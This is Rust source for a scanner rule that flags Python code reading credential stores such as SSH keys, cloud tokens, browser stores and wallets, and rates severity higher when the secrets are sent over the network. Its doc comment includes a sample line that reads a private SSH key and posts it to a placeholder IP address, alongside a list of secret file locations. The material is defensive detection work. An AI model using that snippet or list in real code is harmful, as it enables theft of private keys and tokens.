//! PY103 `credential-theft`: reads of credential stores, worse when sent.
//!
//! **What it detects.** File operations (open, read_text, glob, listdir,
//! walk, copy, archive) on places that hold secrets — `~/.ssh`, `~/.gnupg`,
//! `~/.aws/credentials`, `.npmrc`, `.pypirc`, `.docker/config.json`,
//! `.kube/config`, `.git-credentials`, browser, Discord and Telegram token
//! stores, wallets, `/etc/shadow` — and reads of token environment
//! variables (`AWS_SECRET_ACCESS_KEY`, `GITHUB_TOKEN`, `NPM_TOKEN`…).
//! A traced flow of those values into a network call is the strong form.
//!
//! **Why it matters.** `jeilyfish` (2019) hid a payload in a copy of
//! `jellyfish` that stole SSH and GPG keys; token stealers on PyPI and npm
//! harvest CI secrets and browser stores (CWE-522, CWE-200).
//!
//! **Example.**
//! ```python
//! key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
//! requests.post("https://203.0.113.9/k", data=key)
//! ```
//!
//! **False positives.** SSH, cloud and registry clients (paramiko, botocore,
//! twine) legitimately read their own credential files and send tokens to
//! their own service. Service tokens flowing to the network in library code
//! are therefore medium/low confidence; private keys, browser stores and
//! wallets sent anywhere are not a library's business.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::{Call, Caps, Facts, Labels, is_secret_env, sensitive_path};
use super::{at_call, urls_in};
use crate::FileRole;

/// Rule name.
pub const NAME: &str = "credential-theft";

/// How strongly a kind of credential store implies theft.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Kind {
    /// `/etc/passwd`: read by many legitimate tools.
    Weak,
    /// A service's own token file or env var (aws, npm, pypi, docker…).
    Service,
    /// Private keys, browser stores, wallets, shadow, shell history.
    Private,
}

fn kind_of(what: &str) -> Kind {
    match what {
        "user list" => Kind::Weak,
        "aws credentials"
        | "npm token"
        | "pypi token"
        | "docker credentials"
        | "kubernetes credentials"
        | "git credentials"
        | "netrc credentials"
        | "gcloud credentials"
        | "azure credentials"
        | "env token"
        | "credential file" => Kind::Service,
        _ => Kind::Private,
    }
}

const FILE_OPS: &[&str] = &[
    "open",
    "io.open",
    "codecs.open",
    "os.listdir",
    "os.walk",
    "os.scandir",
    "glob.glob",
    "glob.iglob",
    "shutil.copy",
    "shutil.copy2",
    "shutil.copyfile",
    "shutil.copytree",
    "shutil.make_archive",
    "os.open",
    "pathlib.Path",
    "Path",
];

fn reads_secret(c: &Call, fallback: Option<&'static str>) -> Option<(&'static str, Kind)> {
    let file_op = FILE_OPS.contains(&c.target.as_str())
        || matches!(
            c.method.as_str(),
            "read_text"
                | "read_bytes"
                | "iterdir"
                | "glob"
                | "rglob"
                | "add"
                | "write"
                | "readlines"
                | "read"
        )
        || (super::facts::is_proc_sink_name(&c.target));
    if file_op
        && (c.first_labels.has(Labels::SECRET)
            || c.recv.has(Labels::SECRET)
            || c.arg_labels.has(Labels::SECRET))
    {
        for s in &c.strings {
            if let Some(k) = sensitive_path(s) {
                return Some((k, kind_of(k)));
            }
        }
        if c.strings.iter().any(|s| is_secret_env(s)) {
            return None;
        }
        // The path came through variables: name the store the file mentions.
        if let Some(k) = fallback {
            return Some((k, kind_of(k)));
        }
        return Some(("credential file", Kind::Service));
    }
    if matches!(c.target.as_str(), "os.getenv" | "os.environ.get") && c.result.has(Labels::SECRET) {
        return Some(("env token", Kind::Service));
    }
    None
}

/// Check one file.
#[must_use]
pub fn check(f: &Facts<'_>) -> Vec<Finding> {
    let role = f.file.role;
    // The most private credential store the file's literals name.
    let fallback = f
        .strings
        .iter()
        .filter_map(|s| sensitive_path(&s.value))
        .max_by_key(|k| kind_of(k));
    let reads: Vec<(&Call, &'static str, Kind)> = f
        .calls
        .iter()
        .filter_map(|c| reads_secret(c, fallback).map(|(w, k)| (c, w, k)))
        .collect();
    let sends: Vec<&Call> = f
        .calls
        .iter()
        .filter(|c| c.caps.has(Caps::NET) && c.arg_labels.has(Labels::SECRET))
        .collect();
    let mut what: Vec<&str> = reads.iter().map(|(_, w, _)| *w).collect();
    what.sort_unstable();
    what.dedup();
    let worst = reads.iter().map(|(_, _, k)| *k).max();
    if let Some(send) = sends.first() {
        // What was sent: the kinds named in the flow, or those read here.
        let mut kinds: Vec<&str> = send
            .strings
            .iter()
            .filter_map(|s| sensitive_path(s))
            .collect();
        if kinds.is_empty() {
            kinds = what.clone();
        }
        let k = kinds
            .iter()
            .map(|w| kind_of(w))
            .max()
            .unwrap_or(Kind::Service);
        let (sev, conf) = match (k, role.runs_unasked()) {
            (_, true) => (Severity::Critical, Confidence::High),
            (Kind::Private, false) => (Severity::High, Confidence::High),
            (Kind::Service, false) => (Severity::Medium, Confidence::Low),
            (Kind::Weak, false) => (Severity::Low, Confidence::Low),
        };
        let mut fd = at_call(
            f,
            "PY103",
            NAME,
            sev,
            conf,
            format!(
                "sends credentials ({}) over the network",
                if kinds.is_empty() {
                    "secrets".to_owned()
                } else {
                    kinds.join(", ")
                }
            ),
            send,
        );
        for (c, w, _) in reads.iter().take(6) {
            fd = fd.evidence(format!("reads: {w} (line {})", c.line));
        }
        for u in urls_in(&send.strings) {
            fd = fd.evidence(format!("sends to: {u}"));
        }
        return vec![fd];
    }
    let Some(worst) = worst else {
        return Vec::new();
    };
    let net_here = f.calls.iter().any(|c| c.caps.has(Caps::NET));
    let (sev, conf) = match (worst, role, net_here) {
        (Kind::Weak, FileRole::Install | FileRole::Import, _) => {
            (Severity::Low, Confidence::Medium)
        }
        (Kind::Weak, _, _) => return Vec::new(),
        (Kind::Private, FileRole::Install | FileRole::Import, true) => {
            (Severity::High, Confidence::Medium)
        }
        (Kind::Private, FileRole::Install | FileRole::Import, false) => {
            (Severity::Medium, Confidence::Medium)
        }
        (Kind::Service, FileRole::Install | FileRole::Import, _) => {
            (Severity::Medium, Confidence::Low)
        }
        (Kind::Private, _, true) => (Severity::Medium, Confidence::Low),
        _ => (Severity::Low, Confidence::Low),
    };
    let Some((first, _, _)) = reads.iter().find(|(_, _, k)| *k == worst) else {
        return Vec::new();
    };
    let mut fd = at_call(
        f,
        "PY103",
        NAME,
        sev,
        conf,
        format!("reads credential stores: {}", what.join(", ")),
        first,
    );
    for (c, w, _) in reads.iter().take(6) {
        fd = fd.evidence(format!("reads: {w} (line {})", c.line));
    }
    if net_here {
        fd = fd.evidence("the same file talks to the network");
    }
    vec![fd]
}
